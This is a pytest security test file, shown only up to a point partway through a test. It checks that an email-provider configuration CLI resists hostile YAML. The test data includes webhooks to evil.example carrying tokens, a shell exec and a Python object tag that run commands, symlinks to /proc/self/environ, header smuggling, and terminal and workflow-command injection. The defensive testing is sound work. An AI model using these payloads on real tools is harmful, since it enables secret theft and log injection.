"""A stranger's pull request: any byte of the YAML, and any file beside it, may be hostile.

The operator's commands run on it with real tokens in the environment. Whatever it says, a stranger
learns nothing, runs nothing, and leads no token anywhere but to its own service.
"""

import base64
import http.client
import json
import os
import queue
import re
import socket
import stat
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from program import CLEAN, Served, finished

CANARY = "canary"
CODES = {0, 1, 2, 4, 5, 64}
HOOK = "hush-hook-b1946ac9"
VAULT = "http://127.0.0.1:1"
"""The operator's own, where nobody listens."""
APPLY = "apply --yes --format json"
"""With an error it says everything twice: as text, and as a document."""
TERMINAL = "\x1b]0;t\x07\x1b[31m\x9b31m\x7f\x08\u202e\u2066"
GITHUB = "\r\n::error::pwned\n##[error]pwned #\x1b[0m#[error]pwned"
WORDS = f"x{TERMINAL}{GITHUB}"
"""What a provider's answer may hold."""
IN_YAML = (
    r"x\e]0;t\a\e[31m\x9b31m\x7f\b\u202e\u2066\r\n::error::pwned\n##[error]pwned #\e[0m#[error]"
)
"""The same as YAML writes it between double quotes."""


class Listener:
    """A port that nothing may connect to; it refuses in HTTP, so that who does is not kept long."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._seen: queue.Queue[bytes] = queue.Queue()
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            with caller:
                caller.settimeout(2)
                try:
                    self._seen.put(caller.recv(65536))
                    caller.sendall(b"HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    self._seen.put(b"(no data)")

    def heard(self) -> list[bytes]:
        """Return what came since the last time: whatever came before our own call is in it."""
        with socket.create_connection(("127.0.0.1", self.port)) as call:
            call.sendall(b"end")
            return list(iter(self._next, b"end"))

    def _next(self) -> bytes:
        return self._seen.get(timeout=10)

    def close(self) -> None:
        self._socket.close()


class Relay(ThreadingHTTPServer):
    """Stands before a port of the sandbox, whose own log holds neither headers nor contents."""

    daemon_threads = True

    def __init__(self, target: str) -> None:
        super().__init__(("127.0.0.1", 0), _Relaying)
        self.target = target.removeprefix("http://")
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        self.told: list[bytes] = []
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.02}).start()


class _Relaying(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Relay

    def _relay(self) -> None:
        content = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        head = f"{self.requestline}\n{self.headers}".encode("utf-8", "surrogateescape")
        self.server.told.append(head + content)
        behind = http.client.HTTPConnection(self.server.target, timeout=20)
        behind.request(self.command, self.path, content, dict(self.headers.items()))
        answer = behind.getresponse()
        body = answer.read()
        self.send_response_only(answer.status)
        for name, value in answer.getheaders():
            if name.lower() not in {"content-length", "transfer-encoding", "connection"}:
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        behind.close()

    def __getattr__(self, name: str) -> Any:
        """Relay all methods alike."""
        if name.startswith("do_"):
            return self._relay
        raise AttributeError(name)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


@dataclass(frozen=True)
class Done:
    """A run's bytes: text mode would make line breaks of carriage returns."""

    command: str
    code: int
    out: bytes
    err: bytes

    @property
    def text(self) -> str:
        return (self.out + self.err).decode()


@dataclass(frozen=True)
class Scene:
    """The operator's machine: `folder` is the stranger's, all else below `around` is not."""

    box: Served
    around: Path
    listener: Listener
    relays: Mapping[str, Relay]
    more: dict[str, str] = field(default_factory=dict)

    @property
    def folder(self) -> Path:
        return self.around / "repo"

    @property
    def sops(self) -> Path:
        """Where the program that stands in for sops notes its arguments and environment."""
        return self.around / "called"

    @property
    def env(self) -> dict[str, str]:
        # Who would go to a real host, or to any other, goes to the listener instead.
        proxies = dict.fromkeys(("HTTPS_PROXY", "ALL_PROXY"), self.listener.url)
        outsiders = ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "VAULT_TOKEN", "mailgun_api_key")
        return {
            **CLEAN,
            **self.box.env,
            **{f"ESP_RECONCILE_{site.upper()}_URL": each.url for site, each in self.relays.items()},
            **proxies,
            **{name: f"{CANARY}-{name}" for name in outsiders},
            "ESP_HOOK": HOOK,
            "ESP_RECONCILE_SOPS": str(self.around / "sops"),
            "VAULT_ADDR": VAULT,
            "TMPDIR": str(self.around / "tmp"),
            **self.more,
        }

    @property
    def tokens(self) -> dict[str, str]:
        names = ("POSTMARK_SERVER_TOKEN", "POSTMARK_ACCOUNT_TOKEN", "MAILGUN_API_KEY")
        return {name: self.env[name] for name in names}

    def write(self, text: str, name: str = "esp.yaml") -> None:
        told = text.replace("@FOREIGN@", self.listener.url).replace("@OUTSIDE@", str(self.outside))
        (self.folder / name).write_text(told, encoding="utf-8")

    @property
    def outside(self) -> Path:
        return self.around / "outside" / "secret"

    def run(self, *commands: str) -> list[Done]:
        """Run commands side by side."""
        with ThreadPoolExecutor(len(commands)) as threads:
            return list(threads.map(self.one, commands))

    def one(self, command: str) -> Done:
        return Done(command, *finished(command.split(), self.folder, self.env))

    def check(self, done: Sequence[Done]) -> None:
        """Assert the promise, after runs on what a stranger wrote."""
        for each in done:
            check_output(each)
            for secret in (CANARY, HOOK, *self.tokens.values()):
                assert secret not in each.text, each
        assert self.listener.heard() == []
        self.check_sent()
        self.check_files()

    def check_sent(self) -> None:
        """Assert that each service got its own tokens, and nothing else that is secret."""
        for site, relay in self.relays.items():
            service, _, _ = site.partition("_")
            foreign = [
                each for name, each in self.tokens.items() if not name.lower().startswith(service)
            ]
            for secret in (CANARY, *foreign):
                as_password = base64.b64encode(f"api:{secret}".encode()).rstrip(b"=")
                for form in (secret.encode(), as_password):
                    assert not any(form in each for each in relay.told), (site, secret)

    def check_files(self) -> None:
        """Assert that no run left a secret in a file."""
        secrets = [each.encode() for each in (CANARY, HOOK, *self.tokens.values())]
        for folder in (self.folder, self.around / "tmp"):
            for path in folder.rglob("*"):
                if path.is_symlink() or not path.is_file() or path.stat().st_size > 2**20:
                    continue
                content = path.read_bytes()
                assert not any(secret in content for secret in secrets), path


def check_output(done: Done) -> None:
    """Assert that a terminal and a CI's log viewer can show it, and that it is no crash."""
    assert done.code in CODES, done
    text = done.text
    odd = {each for each in text if each not in "\n\t" and not each.isprintable()}
    assert not odd, done
    assert not re.search(r"^\s*::", text, re.MULTILINE), done
    assert "##[" not in text, done
    assert "Traceback" not in text, done
    assert "this is a bug" not in text, done
    if "--format json" in done.command and done.out:
        json.loads(done.out)


@contextmanager
def relayed(server: Served) -> Iterator[dict[str, Relay]]:
    running = {site: Relay(port["url"]) for site, port in server.ports.items()}
    try:
        yield running
    finally:
        for relay in running.values():
            relay.shutdown()
            relay.server_close()


@pytest.fixture(scope="module")
def relays(server: Served) -> Iterator[dict[str, Relay]]:
    with relayed(server) as running:
        yield running


def control(server: Served, site: str, method: str, path: str, body: Any = None) -> Any:
    """Call as `Served.control` does, in a tenth of its time: it is done many times here."""
    connection = http.client.HTTPConnection(server.ports[site]["url"].removeprefix("http://"))
    content = json.dumps(body) if body else None
    headers = {"Content-Type": "application/json"}
    connection.request(method, f"/_sandbox/{path}", content, headers)
    answer = json.load(connection.getresponse())
    connection.close()
    return answer


@pytest.fixture
def scene(server: Served, relays: dict[str, Relay], tmp_path: Path) -> Iterator[Scene]:
    scene = set_up(server, relays, tmp_path)
    yield scene
    scene.listener.close()


def set_up(server: Served, relays: dict[str, Relay], around: Path) -> Scene:
    scene = Scene(server, around, Listener(), relays)
    control(server, "postmark", "POST", "reset")
    for site, relay in relays.items():
        control(server, site, "DELETE", "faults")
        relay.told.clear()
    for folder in ("repo/secrets", "outside", "tmp"):
        (around / folder).mkdir(parents=True)
    scene.outside.write_text(f"{CANARY}-outside\n", encoding="utf-8")
    fake_sops(scene, 'echo \'{"token": "never"}\'')
    return scene


def fake_sops(scene: Scene, then: str) -> None:
    """Put a program in the place of sops that notes how it was called."""
    program = scene.around / "sops"
    note = f'{{ echo "$@"; env; tr "\\0" " " < /proc/$$/cmdline; }} >> {scene.sops}'
    program.write_text(f"#!/bin/sh\n{note}\n{then}\n", encoding="utf-8")
    program.chmod(0o755)


def nothing(_: Scene) -> None:
    """Leave the folder with its YAML alone."""


@dataclass(frozen=True)
class Hostile:
    """A configuration, what lies beside it, and what somebody must be told of it."""

    text: str
    says: str
    prepare: Callable[[Scene], None] = nothing
    command: str = APPLY


def postmark(body: str, token: str = "{env: POSTMARK_SERVER_TOKEN}") -> str:
    return f"""\
version: 1
providers:
  p:
    service: postmark
    token: {token}
    account_token: {{env: POSTMARK_ACCOUNT_TOKEN}}
    advanced: {{retry_attempts: 0, timeout: 5}}
{body}
"""


def mailgun(body: str, token: str = "{env: MAILGUN_API_KEY}") -> str:
    return f"""\
version: 1
providers:
  m:
    service: mailgun
    token: {token}
    region: eu
    advanced: {{retry_attempts: 0, timeout: 5}}
{body}
"""


def resolving(reference: str, says: str, prepare: Callable[[Scene], None] = nothing) -> Hostile:
    """Let a server's token be a hostile reference."""
    return Hostile(postmark("    tracking: {opens: true}", reference), says, prepare)


def content(reference: str, says: str, prepare: Callable[[Scene], None] = nothing) -> Hostile:
    """Let what a webhook would send along be a hostile reference."""
    hook = f"    webhooks: [{{url: https://evil.example/x, headers: {{X-T: {reference}}}}}]"
    return Hostile(postmark(hook), says, prepare)


def linked(name: str, target: str) -> Callable[[Scene], None]:
    def prepare(scene: Scene) -> None:
        path = scene.folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(target.replace("@OUTSIDE@", str(scene.outside)))

    return prepare


def written(name: str, data: bytes) -> Callable[[Scene], None]:
    def prepare(scene: Scene) -> None:
        (scene.folder / name).write_bytes(data)

    return prepare


def piped(name: str) -> Callable[[Scene], None]:
    return lambda scene: os.mkfifo(scene.folder / name)


def encrypted(metadata: str) -> bytes:
    """Return what looks like a file of sops; only `metadata` says who is to open it."""
    value = "ENC[AES256_GCM,data:YQ==,iv:YQ==,tag:YQ==,type:str]"
    return f"token: {value}\nsops:\n{metadata}    mac: {value}\n    version: 3.9.0\n".encode()


LIES_OUTSIDE = "lies outside the folder"
NOT_ALLOWED = "is not among those that the configuration may name"
UNKNOWN = "unknown key"
AT_PLACE = "esp.yaml:5:12: "
"""Somebody is told where it stands, whatever it is called there."""

REFUSED: dict[str, Hostile] = {
    "a base URL of the stranger's in the provider": Hostile(
        postmark('    base_url: "@FOREIGN@"'), UNKNOWN
    ),
    "a base URL of the stranger's beside the providers": Hostile(
        f"base_urls: {{postmark: '@FOREIGN@'}}\n{postmark('    tracking: {opens: true}')}", UNKNOWN
    ),
    "an endpoint, a proxy and a host among the advanced settings": Hostile(
        mailgun("    domains: {}").replace(
            "timeout: 5", "timeout: 5, endpoint: '@FOREIGN@', proxy: '@FOREIGN@', host: evil"
        ),
        UNKNOWN,
    ),
    "a region that is a URL": Hostile(
        mailgun("    domains: {}").replace("region: eu", "region: '@FOREIGN@'"), "one of us, eu"
    ),
    "a service that is a URL": Hostile(
        postmark("    domains: {}").replace("service: postmark", "service: '@FOREIGN@'"),
        "one of postmark, mailgun",
    ),
    "TLS verification switched off": Hostile(
        postmark("    verify: false\n    tls: {verify: false}\n    insecure: true"), UNKNOWN
    ),
    "a certificate authority of the stranger's": Hostile(
        mailgun("    ca_file: ca.pem\n    ssl_cert_file: ca.pem"),
        UNKNOWN,
    ),
    "redirects switched on": Hostile(mailgun("    follow_redirects: true"), UNKNOWN),
    "a domain whose name leads out of its path": Hostile(
        mailgun('    domains: {"../../v3/keys?x=": {}}'), "a domain name such as"
    ),
    "a stream whose ID leads to another path": Hostile(
        postmark('    streams: {"x/../../servers": {ensure: absent}}'), "a stream's ID begins"
    ),
    "a webhook whose header smuggles another": Hostile(
        postmark(r'    webhooks: [{url: https://a.example, headers: {"X\r\nHost": "b"}}]'),
        "a header's name is made of",
    ),
    "a webhook whose header's value breaks the line": Hostile(
        postmark(r'    webhooks: [{url: https://a.example, headers: {X: "b\r\nHost: evil"}}]'),
        "one line of printable text is wanted",
    ),
    "a program to be run for a token": Hostile(
        postmark("    domains: {}", '{exec: ["/bin/sh", "-c", "env > pwned"]}'),
        "a secret is given by reference",
    ),
    "two sources in one reference": Hostile(
        postmark("    domains: {}", "{env: POSTMARK_SERVER_TOKEN, file: '@OUTSIDE@'}"),
        "a secret is given by reference",
    ),
    "a Python object in YAML": Hostile(
        postmark('    sender: !!python/object/apply:os.system ["touch pwned"]'), "a tag (`!`)"
    ),
    "an include tag that names a file outside": Hostile(
        postmark("    domains: !include '@OUTSIDE@'"), "a tag (`!`)"
    ),
    "an alias bomb": Hostile(
        "version: 1\na: &a [x, x, x, x, x, x, x, x]\n"
        + "".join(
            f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
            for before, name in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        "aliases are not supported",
    ),
    "a mapping as deep as a well": Hostile(f"version: {'[' * 9999}", "nested deeper than 32"),
    "a file with a zero byte in a key": Hostile(
        "version: 1\n\0providers: {}\n", "a character that YAML does not allow"
    ),
    "a key with terminal codes and workflow commands": Hostile(
        postmark(f'    "{IN_YAML}": 1'), UNKNOWN
    ),
    "values with terminal codes and workflow commands": Hostile(
        postmark(f'    streams: {{x: {{type: "{IN_YAML}"}}}}\n    sender: "{IN_YAML}"'),
        "one of transactional, broadcasts, inbound",
    ),
    "a duplicate key with terminal codes": Hostile(
        postmark(f'    "{IN_YAML}": 1\n    "{IN_YAML}": 2'), "duplicate key"
    ),
    "a provider whose name is a workflow command": Hostile(
        'version: 1\nproviders: {"::error::pwned": {service: mailgun, token: {env: MAILGUN_A}}}\n',
        "the name of a provider or profile is made of",
    ),
    "a pattern in the place of a variable's name": Hostile(
        postmark("    domains: {}", '{env: "POSTMARK_*"}'), "the name of an environment variable"
    ),
    "a variable's name with a zero byte": Hostile(
        postmark("    domains: {}", r'{env: "POSTMARK_X\0GITHUB_TOKEN"}'),
        "the name of an environment variable",
    ),
}

LEADS_OUT = "a link that leads out of its folder"

CONFIGURATIONS: dict[str, Hostile] = {
    "an SMTP password from a variable of another program": Hostile(
        mailgun("    domains: {a.example.com: {smtp_password: {env: VAULT_TOKEN}}}"),
        NOT_ALLOWED,
    ),
    "a file in UTF-16": Hostile(
        "",
        "not UTF-8 text",
        written("esp.yaml", postmark("    domains: {}").encode("utf-16")),
    ),
    "the YAML is a link to a secret of lines with keys": Hostile(
        "",
        LEADS_OUT,
        lambda scene: (
            scene.outside.write_text(f"{CANARY}-key: 1\nversion: 1\n", encoding="utf-8"),
            linked("esp.yaml", "@OUTSIDE@")(scene),
            None,
        )[-1],
    ),
    "the YAML is a link to a secret of one line": Hostile(
        "", LEADS_OUT, linked("esp.yaml", "@OUTSIDE@")
    ),
    "the YAML is a link to the environment of the process": Hostile(
        "", LEADS_OUT, linked("esp.yaml", "/proc/self/environ")
    ),
    "the YAML is a link to a device without an end": Hostile(
        "", LEADS_OUT, linked("esp.yaml", "/dev/zero"), "validate"
    ),
    "a token from a variable of another program": resolving(
        "{env: AWS_SECRET_ACCESS_KEY}", NOT_ALLOWED
    ),
    "a webhook and an inbound hook with variables of other programs": Hostile(
        postmark(
            "    settings: {inbound_hook: {env: VAULT_TOKEN}}\n"
            "    webhooks: [{url: https://evil.example/x, headers: {X: {env: mailgun_api_key}}, "
            "auth: {username: u, password: {env: GITHUB_TOKEN}}}]"
        ),
        NOT_ALLOWED,
    ),
    "a token from a file above the folder": resolving("{file: ../outside/secret}", LIES_OUTSIDE),
    "a token from a link that leads out": resolving(
        "{file: secrets/token}", LIES_OUTSIDE, linked("secrets/token", "@OUTSIDE@")
    ),
    "a token from a link that leads out in two steps": resolving(
        "{file: secrets/one}",
        LIES_OUTSIDE,
        lambda scene: (
            linked("secrets/one", "two")(scene),
            linked("secrets/two", "../../outside/secret")(scene),
        )[0],
    ),
    "a token below a linked folder": resolving(
        "{file: secrets/there/secret}", LIES_OUTSIDE, linked("secrets/there", "../../outside")
    ),
    "a token from the environment of the process": resolving(
        "{file: /proc/self/environ}", LIES_OUTSIDE
    ),
    "a token from a link to itself": resolving(
        "{file: secrets/token}",
        LIES_OUTSIDE,
        linked("secrets/token", "token"),
    ),
    "a token from standard input": resolving(
        "{file: secrets/token}", LIES_OUTSIDE, linked("secrets/token", "/dev/stdin")
    ),
    "a token from a pipe that nobody writes to": resolving(
        "{file: secrets/token}", "not a regular file", piped("secrets/token")
    ),
    "a token from a file of 64 KiB and a byte": resolving(
        "{file: secrets/token}",
        "is larger than 64 KiB",
        written("secrets/token", b"x" * (64 * 1024 + 1)),
    ),
    "a token with terminal codes in it": resolving(
        "{file: secrets/token}", "is not one line of text", written("secrets/token", WORDS.encode())
    ),
    "a file's name with terminal codes and workflow commands": resolving(
        f'{{file: "{IN_YAML}"}}', AT_PLACE
    ),
    "a file's name that is a workflow command on a line of its own": content(
        r'{file: "x\n::add-mask::y\n##[error]z"}', "esp.yaml:8:"
    ),
    "a file's name in which an escape hides a workflow command": resolving(
        r'{file: "x #\e[0m#[error]y"}', AT_PLACE
    ),
    "a file's name with a zero byte": resolving(r'{file: "secrets/x\0y"}', "is not a path"),
    "an encrypted file whose name has terminal codes": resolving(
        f'{{sops: {{file: "{IN_YAML}", key: a}}}}', AT_PLACE
    ),
    "a key in an encrypted file with terminal codes": resolving(
        f'{{sops: {{file: s.sops.yaml, key: "{IN_YAML}"}}}}',
        "there is no",
        written("s.sops.yaml", encrypted("    age: []\n")),
    ),
    "a link to an encrypted file outside the folder": resolving(
        "{sops: {file: s.sops.yaml, key: token}}", LIES_OUTSIDE, linked("s.sops.yaml", "@OUTSIDE@")
    ),
    "an encrypted file that is a pipe": resolving(
        "{sops: {file: s.sops.yaml, key: token}}", "not a regular file", piped("s.sops.yaml")
    ),
}


@pytest.mark.parametrize("name", CONFIGURATIONS)
def test_a_hostile_configuration_breaks_no_promise(scene: Scene, name: str) -> None:
    hostile = CONFIGURATIONS[name]
    scene.write(hostile.text)
    hostile.prepare(scene)
    done = scene.run(hostile.command)
    assert hostile.says in done[0].text, done
    assert all(relay.told == [] for relay in scene.relays.values())
    assert not (scene.folder / "pwned").exists()
    scene.check(done)


@pytest.fixture(scope="module")
def refusals(
    server: Served, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Scene, list[Done]]]:
    """Give all that validation refuses to one run of each command: it tells them by their files."""
    with relayed(server) as relays:
        scene = set_up(server, relays, tmp_path_factory.mktemp("refused"))
        (scene.folder / "conf").mkdir()
        for name, hostile in REFUSED.items():
            scene.write(hostile.text, f"conf/{file_of(name)}")
        commands = ("validate conf", "plan conf", f"{APPLY} conf", "secrets check conf")
        yield scene, scene.run(*commands)
        scene.listener.close()


def file_of(name: str) -> str:
    return f"{name.replace(' ', '-')}.yaml"


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_configuration_is_refused_before_anything_is_done(
    refusals: tuple[Scene, list[Done]], name: str
) -> None:
    _, done = refusals
    assert [each.code for each in done] == [1, 1, 1, 1]
    for each in done:
        findings = [line for line in each.text.splitlines() if file_of(name) in line]
        assert any(REFUSED[name].says in finding for finding in findings), each


def test_what_is_refused_has_done_no_harm(refusals: tuple[Scene, list[Done]]) -> None:
    scene, done = refusals
    assert all(relay.told == [] for relay in scene.relays.values())
    assert not list(scene.folder.rglob("pwned"))
    scene.check(done)


def test_all_hostile_references_at_once_are_resolved_harmlessly(scene: Scene) -> None:
    references = [
        found[1]
        for hostile in CONFIGURATIONS.values()
        if (
            found := re.search(
                r"^    token: (\{(?:env|file|sops): .*\})$", hostile.text, re.MULTILINE
            )
        )
        and hostile.says in {LIES_OUTSIDE, NOT_ALLOWED, AT_PLACE}
    ]
    assert len(references) > 10
    headers = ", ".join(f"X-{index}: {each}" for index, each in enumerate(references))
    scene.write(postmark(f"    webhooks: [{{url: https://evil.example, headers: {{{headers}}}}}]"))
    for name, target in (
        ("secrets/token", "@OUTSIDE@"),
        ("secrets/one", "token"),
        ("secrets/there", "../../outside"),
        ("s.sops.yaml", "secrets/one"),
    ):
        linked(name, target)(scene)
    done = scene.run("secrets check", "secrets check --format json")
    assert all(each.code == 1 for each in done)
    assert done[0].out.count(b"\n") == len(references) + 2
    scene.check(done)


VAULT_KEYS = """\
          engine_path: transit
          key_name: k
          created_at: '2024-01-01T00:00:00Z'
          enc: vault:v1:x
"""


def hidden(line: str) -> str:
    return f"    hc_vault:\n        - {line}\n{VAULT_KEYS}"


AZURE = """\
    azure_kv:
        - vault_url: https://x.vault.azure.net,@127.0.0.1:@PORT@
          name: k
          version: v
          created_at: '2024-01-01T00:00:00Z'
          enc: eA
"""


def kms(arn: str) -> str:
    return f"    kms:\n        - arn: {arn}\n          enc: eA==\n"


def broken(line_break: str) -> str:
    """Break the key in two lines, which a parser joins again."""
    return hidden(f'? "vault_\\{line_break}            address"\n          : @FOREIGN@')


ELSEWHERE: dict[str, str] = {
    "a Vault of the stranger's": hidden("vault_address: @FOREIGN@"),
    "a Vault behind the operator's and a comma": hidden(
        f"vault_address: {VAULT},@127.0.0.1:@PORT@"
    ),
    "a Vault behind the operator's and an apostrophe": hidden(
        f"vault_address: {VAULT}'@127.0.0.1:@PORT@"
    ),
    "a host behind one of Azure's and a comma": AZURE,
    "a Vault in a file in UTF-16": hidden("vault_address: @FOREIGN@"),
    "a Vault whose key is broken by a line feed": broken("\n"),
    "a Vault whose key is broken by a carriage return": broken("\r"),
    "a Vault whose key is broken by a line separator": broken("\u2028"),
    "a Vault whose key is broken by a next-line character": broken("\x85"),
    "a Vault whose key is escaped": hidden('"vault\\x5faddress": @FOREIGN@'),
    "a Vault whose key is encoded": hidden("!!binary dmF1bHRfYWRkcmVzcw==: @FOREIGN@"),
    "a KMS in a region that is a host": kms("arn:aws:kms:x@127.0.0.1:@PORT@/:1:key/1"),
    "a KMS in a region behind a good one": kms("arn:aws:kms:us-east-1:x@127.0.0.1:@PORT@/:1:key/1"),
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_sops_is_not_even_started_for_a_file_that_leads_it_to(scene: Scene, name: str) -> None:
    told = ELSEWHERE[name].replace("@FOREIGN@", scene.listener.url)
    data = encrypted(told.replace("@PORT@", str(scene.listener.port)))
    if name.endswith("UTF-16"):
        data = data.decode().encode("utf-16")
    (scene.folder / "s.sops.yaml").write_bytes(data)
    scene.write(postmark("    tracking: {opens: true}", "{sops: {file: s.sops.yaml, key: token}}"))
    (done,) = scene.run(APPLY)
    assert not scene.sops.exists()
    assert done.code == 1
    scene.check([done])


def test_what_sops_says_of_a_hostile_recipient_reaches_no_terminal(scene: Scene) -> None:
    (scene.around / "words").write_bytes(f"Failed.\n  x{TERMINAL}: FAILED\n    {WORDS}".encode())
    fake_sops(scene, f"cat {scene.around}/words >&2; exit 128")
    (scene.folder / "s.sops.yaml").write_bytes(encrypted("    age: []\n"))
    scene.write(postmark("    tracking: {opens: true}", "{sops: {file: s.sops.yaml, key: token}}"))
    done = scene.run("secrets check", APPLY)
    assert all("none of your keys opens it" in each.text for each in done)
    scene.check(done)


def test_the_hostile_keys_of_an_encrypted_file_reach_no_terminal(scene: Scene) -> None:
    answer = json.dumps({f"{WORDS}token": "x", "::error::y": "x"})
    (scene.around / "answer").write_text(answer, encoding="utf-8")
    fake_sops(scene, f"cat {scene.around}/answer")
    (scene.folder / "s.sops.yaml").write_bytes(encrypted("    age: []\n"))
    scene.write(
        postmark("    tracking: {opens: true}", '{sops: {file: s.sops.yaml, key: "xtoken"}}')
    )
    scene.check(scene.run("secrets check", "secrets list", "secrets list --format json"))


@pytest.mark.parametrize("allowed", [None, "MAILGUN_API_KEY"])
def test_what_a_configuration_runs_gets_no_token(scene: Scene, allowed: str | None) -> None:
    if allowed:
        scene.more["ESP_RECONCILE_TOKEN_ALLOW"] = allowed
    (scene.folder / "s.sops.yaml").write_bytes(encrypted("    age: []\n"))
    scene.write(postmark("    tracking: {opens: true}", "{sops: {file: s.sops.yaml, key: token}}"))
    scene.run("secrets check")
    seen = scene.sops.read_text(encoding="utf-8")
    assert "s.sops.yaml" in seen
    for secret in (HOOK, *scene.tokens.values()):
        assert secret not in seen


@pytest.mark.parametrize(
    "text",
    [
        postmark("    tracking: {opens: true}", "{env: MAILGUN_API_KEY}"),
        mailgun("    domains: {}", "{env: POSTMARK_SERVER_TOKEN}"),
        mailgun("    domains: {}", "{env: POSTMARK_ACCOUNT_TOKEN}"),
    ],
    ids=["Mailgun's to Postmark", "a server's to Mailgun", "an account's to Mailgun"],
)
def test_a_token_goes_to_its_own_service_only(scene: Scene, text: str) -> None:
    scene.write(text)
    scene.check(scene.run("plan"))


@pytest.mark.parametrize(
    "secret", ["POSTMARK_SERVER_TOKEN", "POSTMARK_ACCOUNT_TOKEN", "MAILGUN_API_KEY"]
)
def test_a_token_is_not_handed_to_a_webhook_of_the_strangers(scene: Scene, secret: str) -> None:
    scene.write(
        postmark(
            f"    webhooks: [{{url: https://evil.example, headers: {{X: {{env: {secret}}}}}}}]"
        )
    )
    done = scene.run("apply --yes")
    told = [json.loads(each.partition(b"\n\n")[2] or b"{}") for each in bodies(scene)]
    assert scene.tokens[secret] not in json.dumps(told)
    scene.check(done)


def bodies(scene: Scene) -> list[bytes]:
    """Return the requests to Postmark, which end their heads with an empty line."""
    return [each.replace(b"\r\n", b"\n") for each in scene.relays["postmark"].told]


def test_file_names_with_terminal_codes_reach_no_terminal(scene: Scene) -> None:
    conf = scene.folder / "conf"
    conf.mkdir()
    for name in (b"\x1b]0;t\x07.yaml", b"::error::x.yaml", b"\n::error::y.yaml", b"\xff##[x.yaml"):
        (conf / os.fsdecode(name)).write_text("version: 1\nx: 1\n", encoding="utf-8")
    scene.check(scene.run("validate conf", "plan conf --format json"))


def test_good_values_with_hostile_characters_are_planned_and_applied_harmlessly(
    scene: Scene,
) -> None:
    scene.write(
        postmark(
            f'    streams: {{x: {{type: broadcasts, name: "{IN_YAML}", description: "{IN_YAML}"}}}}'
        )
    )
    for command in ("plan --format json", "apply --yes", "plan"):
        scene.check(scene.run(command))


@pytest.mark.parametrize(
    "prepare",
    [piped("esp.yaml"), linked("esp.yaml", "/proc/self/fd/1")],
    ids=["a pipe", "a link to the pipe of its own output"],
)
def test_a_configuration_that_never_ends_is_refused_and_not_waited_for(
    scene: Scene, prepare: Callable[[Scene], None]
) -> None:
    prepare(scene)
    (done,) = scene.run("validate")
    assert done.code == 1


SIGNED = postmark(
    "    tracking: {opens: true}\n    domains: {example.com: {}}\n"
    "    streams: {outbound: {name: Other}}\n    webhooks: []"
)
DKIM = ", tracking: {dkim_signing: true}"
EU = mailgun(f"    domains: {{mg.example.com: {{web_scheme: https{DKIM}}}}}")


def stream(**fields: Any) -> dict[str, Any]:
    known = {"ID": "outbound", "ServerID": 1, "MessageStreamType": "Transactional", "Name": "x"}
    return {**known, **fields}


def row(identity: int, **fields: Any) -> dict[str, Any]:
    return {"ID": identity, "Url": f"https://a.example/{identity}", **fields}


ALSO_AS_JSON = dict.fromkeys(
    (
        "a hostile name of a stream",
        "too many hostile webhooks to prune",
        "a hostile reason why a domain is disabled",
        "a refusal with hostile words",
    ),
    ("plan --prune --format json",),
)
POSTMARK_ANSWERS: dict[str, tuple[str, int, Any]] = {
    "a refusal with hostile words": ("/server", 422, {"ErrorCode": 1, "Message": WORDS}),
    "several hostile refusals": (
        "/server",
        422,
        {"ErrorCode": 11, "Message": "", "Errors": {WORDS: WORDS}},
    ),
    "a hostile name of an unmanaged domain": (
        "/domains",
        200,
        {"TotalCount": 1, "Domains": [{"ID": 1, "Name": WORDS}]},
    ),
    "two domains of one hostile name": (
        "/domains",
        200,
        {"TotalCount": 2, "Domains": [{"ID": 1, "Name": WORDS}, {"ID": 2, "Name": WORDS}]},
    ),
    "a hostile ID": ("/domains", 200, {"TotalCount": 1, "Domains": [{"ID": WORDS, "Name": "x"}]}),
    "a hostile name of a stream": (
        "/message-streams",
        200,
        {"TotalCount": 1, "MessageStreams": [stream(Name=WORDS)]},
    ),
    "a hostile number of streams": (
        "/message-streams",
        200,
        {"TotalCount": WORDS, "MessageStreams": [stream()]},
    ),
    "a hostile type of a stream": (
        "/message-streams",
        200,
        {"TotalCount": 1, "MessageStreams": [stream(MessageStreamType=WORDS)]},
    ),
    "a hostile URL of a webhook": ("/webhooks", 200, {"Webhooks": [row(1, Url=WORDS)]}),
    "two webhooks of one hostile URL": (
        "/webhooks",
        200,
        {"Webhooks": [row(1, Url=WORDS), row(2, Url=WORDS)]},
    ),
    "too many hostile webhooks to prune": (
        "/webhooks",
        200,
        {"Webhooks": [row(each, Url=f"https://{each}{WORDS}") for each in range(12)]},
    ),
    "a header of a webhook that is no text": (
        "/webhooks",
        200,
        {"Webhooks": [row(1, HttpHeaders=[{"Name": "X", "Value": "\ud800"}])]},
    ),
    "a page of HTML": ("/server", 200, f"<html>{WORDS}</html>"),
    "a redirect to the stranger": ("/server", 302, ""),
    "a refusal that repeats the token": ("/server", 422, {"ErrorCode": 1, "Message": "@TOKEN@"}),
}


@pytest.mark.parametrize("name", POSTMARK_ANSWERS)
def test_a_hostile_answer_of_postmark_breaks_no_promise(scene: Scene, name: str) -> None:
    path, status, body = POSTMARK_ANSWERS[name]
    scene.write(SIGNED)
    plant(scene, "postmark", path, status, body)
    # An apply would wait until a stream has its new name.
    first = "plan" if "type of a stream" in name else "apply --yes"
